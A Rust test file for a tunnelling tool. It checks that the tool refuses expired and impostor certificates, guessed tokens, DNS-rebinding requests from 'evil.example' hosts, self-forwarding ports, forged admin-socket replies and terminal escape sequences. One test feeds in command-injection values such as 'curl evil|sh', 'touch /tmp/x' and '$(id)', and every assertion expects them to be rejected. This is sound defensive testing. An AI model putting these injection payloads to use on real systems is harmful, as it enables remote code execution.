//! Strangers that must be refused: expired and foreign certificates, guessed tokens, pages of strangers at the admin
//! port, clients that look for ports of tunnel processes behind an edge, and impostors at the admin socket.

mod calls;
mod spellings;
mod tls;
mod users;

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use clap::Parser as _;
use futures_util::future::join_all;
use rcgen::{CertificateParams, DistinguishedName, DnType, ExtendedKeyUsagePurpose, Issuer, KeyPair};
use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpStream, UnixListener};
use tokio::sync::watch;
use tokio::time::Instant;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::client::{Resumption, Tls12Resumption};
use tokio_rustls::rustls::crypto::aws_lc_rs;
use tokio_rustls::rustls::pki_types::pem::PemObject as _;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer};
use tokio_rustls::rustls::{ClientConfig, HandshakeKind, RootCertStore, version};
use tonic::Code;
use tunnel::command::status::{NodesArgs, NodesFormat};
use tunnel::command::{Args, Command, Format, invitations, status};
use tunnel::config::Environment;
use tunnel::invitations::code::InvitationCode;
use tunnel_net::tls::certificate::EDGE_SUBJECT;
use tunnel_net::tls::{IdentityFiles, server_name};
use tunnel_proto::hello::EdgeHello;
use tunnel_proto::names::Instance;

use crate::support::clients::{assert_reset, get, send_request};
use crate::support::programs::{NAME, TOKEN, TestDir, TestServer, at, edge, edge_with};
use crate::support::{assert_eventually, remote, spawn, wait_until};

/// Starts a server with egress and HTTPS ports that accept certificates of its CA with these names.
fn server(place: &TestDir, names: &str) -> TestServer {
    let dir = place.path().display();
    let proved = format!(
        "cert = \"{dir}/cloud.crt\"\nkey = \"{dir}/cloud.key\"\nclient_ca = \"{dir}/ca.crt\"\nnames = {names}\n"
    );
    let addr = "listen_ip = \"127.0.0.1\"\nports = { \"0\" = \"127.0.0.1:10250\" }\n";
    TestServer::with(
        place,
        &format!("[server.egress]\nlisten = \"127.0.0.1:0\"\n{proved}[server.https]\n{addr}{proved}"),
    )
}

/// Returns a client of these TLS versions with that certificate.
fn client(place: &TestDir, shows: &IdentityFiles, ways: Tls12Resumption, is_old: bool) -> Arc<ClientConfig> {
    let mut roots = RootCertStore::empty();
    roots.add_parsable_certificates(CertificateDer::pem_file_iter(&place.files.ca).unwrap().flatten());
    let versions = if is_old { &[&version::TLS12][..] } else { &[&version::TLS12, &version::TLS13] };
    let chain = CertificateDer::pem_file_iter(&shows.cert).unwrap().flatten().collect();
    let key = PrivateKeyDer::from_pem_file(&shows.key).unwrap();
    let mut config = ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_protocol_versions(versions)
        .unwrap()
        .with_root_certificates(roots)
        .with_client_auth_cert(chain, key)
        .unwrap();
    config.resumption = Resumption::in_memory_sessions(9).tls12_resumption(ways);
    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    Arc::new(config)
}

/// Returns the kind of the client's handshake at a port, or the error.
async fn handshake(client: &Arc<ClientConfig>, port: SocketAddr) -> Result<HandshakeKind, String> {
    let connect = async {
        let socket = TcpStream::connect(port).await?;
        let connector = TlsConnector::from(client.clone());
        let mut tls = connector.connect(server_name(NAME).unwrap(), socket).await?;
        let kind = tls.get_ref().1.handshake_kind().unwrap();
        // In TLS 1.3 the client finishes before the server has checked its certificate. Neither end sends first here.
        let alert = tokio::time::timeout(Duration::from_millis(300), tls.read_u8()).await;
        match alert {
            Ok(Err(cause)) if cause.kind() != std::io::ErrorKind::UnexpectedEof => Err(cause),
            _ => Ok(kind),
        }
    };
    assert_eventually("a handshake", connect).await.map_err(|cause: std::io::Error| cause.to_string())
}

#[tokio::test]
async fn an_expired_certificate_cannot_resume_a_tls_session_at_any_port() {
    let place = TestDir::new();
    let server = server(&place, &format!("[\"{NAME}\"]"));
    let shows = IdentityFiles { cert: place.path().join("brief.crt"), key: place.path().join("brief.key") };
    let brief = place.read_authority().signing_for(BRIEF);
    let ends = SystemTime::now() + BRIEF + Duration::from_secs(1);
    // A server certificate, which a peer presents at the port for links.
    brief.server(&[NAME]).unwrap().write(&shows.cert, &shows.key).unwrap();
    let mut clients = Vec::new();
    for (name, port) in [
        ("egress", server.port("egress")),
        ("https", server.port("https")),
        ("links", server.server.bound.grpc),
    ] {
        for (ways, again) in [
            (Tls12Resumption::SessionIdOnly, HandshakeKind::Full),
            (Tls12Resumption::SessionIdOrTickets, HandshakeKind::Resumed),
        ] {
            let client = client(&place, &shows, ways, true);
            assert_eq!(handshake(&client, port).await, Ok(HandshakeKind::Full), "{name}, {ways:?}");
            clients.push((name, port, ways, again, client));
        }
    }
    let mut kinds = Vec::new();
    for (name, port, ways, again, client) in &clients {
        kinds.push((*name, *ways, handshake(client, *port).await, Ok(*again)));
    }
    wait_until("the certificate has expired", || SystemTime::now() > ends).await;
    for (name, port, ways, _, client) in &clients {
        let result = handshake(client, *port).await;
        assert!(
            result.as_ref().is_err_and(|result| result.contains("Expired")),
            "{name}, {ways:?}: {result:?}"
        );
    }
    for (name, ways, kind, expected) in kinds {
        assert_eq!(kind, expected, "{name}, {ways:?}, before the expiry");
    }
}

/// Returns a client certificate that this CA signed for that subject.
fn issued(place: &TestDir, file: &str, subject: &[(DnType, &str)]) -> IdentityFiles {
    let authority = &place.authority.0;
    let key = KeyPair::from_pem(&authority.key()).unwrap();
    let issuer = Issuer::from_ca_cert_pem(authority.cert(), key).unwrap();
    let mut params = CertificateParams::new(["node1".to_owned()]).unwrap();
    params.distinguished_name = DistinguishedName::new();
    for (kind, text) in subject {
        params.distinguished_name.push(kind.clone(), *text);
    }
    params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
    let key = KeyPair::generate().unwrap();
    let cert = place.file(&format!("{file}.crt"), &params.signed_by(&key, &issuer).unwrap().pem());
    IdentityFiles { cert, key: place.file(&format!("{file}.key"), &key.serialize_pem()) }
}

#[tokio::test]
async fn an_edges_certificate_is_refused_even_if_every_name_is_allowed() {
    let place = TestDir::new();
    let server = server(&place, "[\"*\"]");
    let agent = issued(
        &place,
        "agent",
        &[(DnType::CommonName, EDGE_SUBJECT.0), (DnType::OrganizationName, EDGE_SUBJECT.1)],
    );
    let of_kubelet = issued(&place, "kubelet", &[(DnType::CommonName, "tunnel:node1")]);
    let other = issued(&place, "other", &[(DnType::CommonName, "anybody")]);
    for port in [server.port("egress"), server.port("https")] {
        for is_old in [true, false] {
            let tried = async |shows: &IdentityFiles| {
                let client = client(&place, shows, Tls12Resumption::Disabled, is_old);
                handshake(&client, port).await
            };
            assert_eq!(tried(&other).await, Ok(HandshakeKind::Full));
            for shows in [&agent, &of_kubelet] {
                let result = tried(shows).await;
                assert!(result.as_ref().is_err_and(|result| result.contains("AccessDenied")), "{result:?}");
            }
        }
    }
}

/// Links as a node with this token over a connection. Returns whether the token was accepted; `None` without an answer.
async fn answered(io: TlsStream<TcpStream>, node: &str, token: &str) -> Option<bool> {
    let headers = EdgeHello::edge_request(&node.parse().unwrap(), token, Instance::random());
    match remote::call(io, headers, node).await {
        Ok(_) => Some(true),
        Err(status) => (status.code() == Code::Unauthenticated).then_some(false),
    }
}

#[tokio::test]
async fn a_wrong_token_is_answered_late_and_a_right_one_of_another_node_at_once() {
    let place = TestDir::new();
    let server = TestServer::start(&place);
    let port = server.server.bound.grpc;
    let connections = join_all((0..13).map(|_| remote::encrypted(&place, port))).await;
    let mut connections = connections.into_iter();
    let right = connections.next().unwrap();
    let guesses =
        connections.enumerate().map(async |(n, io)| answered(io, "node1", &format!("guess {n}")).await);
    let (started, mut guesses) = (Instant::now(), Box::pin(join_all(guesses)));
    let all_judged = async {
        let rejected = &server.server.metrics.links_rejected;
        wait_until("all guesses are judged", || rejected.all() == 12).await;
        assert_eq!(["token", "too_many_guesses"].map(|why| rejected.counted(why)), [5, 7]);
        answered(right, "node2", TOKEN).await
    };
    tokio::select! {
        answers = &mut guesses => panic!("{answers:?}"),
        accepted = all_judged => assert_eq!(accepted, Some(true)),
    }
    let answers = guesses.await;
    assert!(started.elapsed() >= Duration::from_secs(1));
    let answered = answers.iter().filter(|answer| **answer == Some(false)).count();
    assert_eq!(answered, 4, "the others of this source get no answer: {answers:?}");
}

#[tokio::test]
async fn a_page_that_uses_dns_rebinding_reads_and_changes_nothing() {
    let place = TestDir::new();
    let server = TestServer::start(&place);
    let edge = edge(&place, &server, "secret-node").await;
    for (port, health) in
        [(server.server.bound.log, "/cloud/healthz"), (edge.bound.log.unwrap(), "/edge/healthz")]
    {
        let request = async |line: &str, hosts: &str| {
            let head = format!("{line} HTTP/1.1\r\n{hosts}Connection: close\r\nContent-Length: 1\r\n\r\n2");
            send_request(port, &head).await
        };
        for host in ["evil.example", "evil.example:9010", "127.0.0.1.evil.example", "localhost.evil.example"]
        {
            let host = format!("Host: {host}\r\n");
            for line in [
                &format!("GET {health}"),
                "PUT /debug/flags/v",
                "GET /status",
                "GET /nodes",
                "GET /events",
                "GET /",
                "GET /x",
            ] {
                let answer = request(line, &host).await;
                assert_eq!(answer.status, 403, "{line}, {host}: {answer:?}");
                assert!(
                    !answer.body.contains("secret-node") && answer.body.contains("as localhost"),
                    "{answer:?}"
                );
            }
            for path in ["/livez", "/readyz", "/metrics"] {
                assert_eq!(request(&format!("GET {path}"), &host).await.status, 200, "{path}, {host}");
            }
        }
        let two = "Host: localhost\r\nHost: evil.example\r\n";
        assert!(matches!(request("PUT /debug/flags/v", two).await.status, 400 | 403));
        assert_eq!(get(port, health).await.status, 200);
        // A preflight gets no permission, and what changes something is only at the socket.
        for line in ["OPTIONS /debug/flags/v", "OPTIONS /status", "POST /invitations", "POST /revocations"] {
            let headers =
                "Host: localhost\r\nOrigin: http://evil.example\r\nAccess-Control-Request-Method: PUT\r\n";
            let answer = request(line, headers).await;
            assert!(matches!(answer.status, 404..=406), "{line}: {answer:?}");
            assert!(!answer.head.to_lowercase().contains("access-control"), "{line}: {answer:?}");
        }
        // The host is accepted; the request fails only because ports set no log level.
        for host in ["localhost", "127.0.0.1:9010", "[::1]:9010", "10.1.2.3:9010"] {
            let answer = request("PUT /debug/flags/v", &format!("Host: {host}\r\n")).await;
            assert!(answer.body.contains("at the admin socket"), "{host}: {answer:?}");
        }
    }
}

#[tokio::test]
async fn no_edge_dials_a_port_of_another_process_on_its_machine() {
    let place = TestDir::new();
    let server = "channelz_listen = \"127.0.0.1:0\"\n[server.connect]";
    let more = "[server.http_proxy]\nlisten = \"0.0.0.0:0\"\n[server.tcp.\"[::]:0\"]\ntarget = \"node1/127.0.0.1:1\"\n";
    let server = TestServer::from_text(&(place.cloud("").replace("[server.connect]", server) + more));
    let more = "channelz_listen = \"127.0.0.1:0\"\n[edge.http_proxy]\nlisten = \"127.0.0.1:0\"\n";
    let neighbour = edge_with(&place, &server, "neighbour", more).await;
    let _edge = edge(&place, &server, "node1").await;
    let (of_server, of_edge) = (&server.server.bound, &neighbour.bound);
    let clients = of_server.clients.iter().map(|(_, at)| *at);
    let own = [Some(of_server.grpc), Some(of_server.log), of_server.channelz];
    let own = own.into_iter().chain([of_edge.log, of_edge.channelz, of_edge.proxy]).map(Option::unwrap);
    for port in own.chain(clients).map(|at| SocketAddr::from(([127, 0, 0, 1], at.port()))) {
        let answer = server.request_connect(&at("node1", port)).await;
        assert_eq!(answer.status, 403, "{port}: {answer:?}");
        assert!(answer.phrase.contains("a tunnel process's own port"), "{answer:?}");
    }
    // Public ports remain reachable.
    server.open(&at("node1", server.server.bound.metrics.unwrap())).await;
    // After its process has ended, a port may belong to any other program.
    let port = neighbour.bound.log.unwrap();
    neighbour.shutdown(async {}).await;
    let answer = server.request_connect(&at("node1", port)).await;
    assert_eq!(answer.status, 502, "{answer:?}");
    let listener = tokio::net::TcpListener::bind(port).await.unwrap();
    server.open(&at("node1", port)).await;
    drop(listener);
}

/// The edge and the server would pass the connection to each other endlessly.
#[tokio::test]
async fn a_tcp_port_that_forwards_to_itself_is_refused() {
    let place = TestDir::new();
    let free = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let at = free.local_addr().unwrap();
    let tcp = format!("[server.tcp.\"0.0.0.0:{0}\"]\ntarget = \"node1/127.0.0.1:{0}\"\n", at.port());
    drop(free);
    let server = TestServer::from_text(&(place.cloud("") + &tcp));
    let _edge = edge(&place, &server, "node1").await;
    let mut client = TcpStream::connect(at).await.unwrap();
    assert_reset(&mut client).await;
    // No further session begins while the same edge answers other requests.
    for _ in 0..20 {
        assert_eq!(server.request_connect(&format!("node1:{}", at.port())).await.status, 403);
    }
    assert_eq!(server.server.metrics.sessions.closed("tcp", "own_port"), 1);
}

/// Validity of a certificate that must expire within a test: long enough for six handshakes on a busy machine.
const BRIEF: Duration = Duration::from_secs(12);

/// Serves an admin socket that another program has: each connection gets the answer that is set.
fn forged_admin_socket(place: &TestDir) -> (PathBuf, watch::Sender<String>) {
    let path = place.path().join("server.sock");
    let (listener, answers) = (UnixListener::bind(&path).unwrap(), watch::Sender::new(String::new()));
    let answer = answers.subscribe();
    spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let body = answer.borrow().clone();
            let _ = socket.read(&mut [0; 4096]).await;
            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
            let _ = socket.write_all((head + &body).as_bytes()).await;
        }
    });
    (path, answers)
}

#[tokio::test]
async fn a_forged_admin_socket_cannot_inject_a_command_into_an_invitation() {
    let place = TestDir::new();
    let (socket, answers) = forged_admin_socket(&place);
    let code = |node: &str| InvitationCode::random([7; 16], node.parse().unwrap()).to_string();
    let (right, other, user) = (code("node1"), code("node2"), code("node1/"));
    let run = async |code: &str, cloud: &str| {
        answers.send_replace(format!(r#"{{"code": {code:?}, "until": 1, "cloud": {cloud:?}}}"#));
        let line = ["tunnel", "invite", "--node", "node1", "--socket", socket.to_str().unwrap()];
        let Command::Invite(invite_args) = Args::parse_from(line).command else { panic!("{line:?}") };
        invitations::invite(invite_args, &Environment::default()).await
    };
    let output = run(&right, "tunnel.test:9000").await.unwrap();
    assert!(
        output.contains(&format!("echo {right} | tunnel join tunnel.test:9000 --invitation -\n")),
        "{output}"
    );
    for (code, cloud) in [
        ("iAAAA.n1; curl evil|sh #", "tunnel.test:9000"),
        (&right, "tunnel.test:1; touch /tmp/x #"),
        (&right, "$(id):9000"),
        (&right, "a b:9000"),
        (&other, "tunnel.test:9000"),
        (&user, "tunnel.test:9000"),
        (&format!("{right}\n id"), "tunnel.test:9000"),
    ] {
        let output = run(code, cloud).await.unwrap_err();
        assert!(output.text.contains("incompatible version"), "{code}, {cloud}: {output}");
    }
}

/// Adds text that controls a terminal to each text of a response.
fn poison(value: &mut Value) {
    match value {
        Value::String(text) => text.push_str(WILD),
        Value::Array(values) => values.iter_mut().for_each(poison),
        Value::Object(fields) => fields.values_mut().for_each(poison),
        _ => {}
    }
}

#[tokio::test]
async fn output_of_a_forged_admin_socket_has_no_control_characters() {
    let place = TestDir::new();
    let server = TestServer::start(&place);
    let _edge = edge(&place, &server, "node1").await;
    let (socket, answers) = forged_admin_socket(&place);
    for path in ["/status", "/nodes"] {
        let mut body: Value = serde_json::from_str(&get(server.server.bound.log, path).await.body).unwrap();
        poison(&mut body);
        for (body, is_json) in [(body.to_string(), true), (WILD.to_owned(), false)] {
            answers.send_replace(body);
            for output in [Format::Text, Format::Json] {
                let (at, env) = (Some(socket.clone()), Environment::default());
                let result = match path {
                    "/status" => status::status(at, output, &env).await,
                    _ => {
                        let json = output == Format::Json;
                        let output = if json { NodesFormat::Json } else { NodesFormat::Wide };
                        let args = NodesArgs { socket: at, output, ..NodesArgs::default() };
                        let all = status::nodes(args.clone(), &env).await;
                        let down = status::nodes(NodesArgs { down: true, ..args }, &env).await;
                        all.and_then(|all| Ok(all + &down?))
                    }
                };
                assert_eq!(result.is_ok(), is_json, "{path}: {result:?}");
                let text = result.unwrap_or_else(|error| error.text);
                let is_plain = |c: char| c == '\n' || !c.is_control() && c != '\u{202e}';
                assert!(text.chars().all(is_plain), "{path}, {output:?}: {text:?}");
            }
        }
    }
}

/// Text that clears a terminal's screen, changes its colour, rings, and reverses the direction of writing.
const WILD: &str = "\u{1b}[2J\u{9b}31m\u{7}\u{202e}";
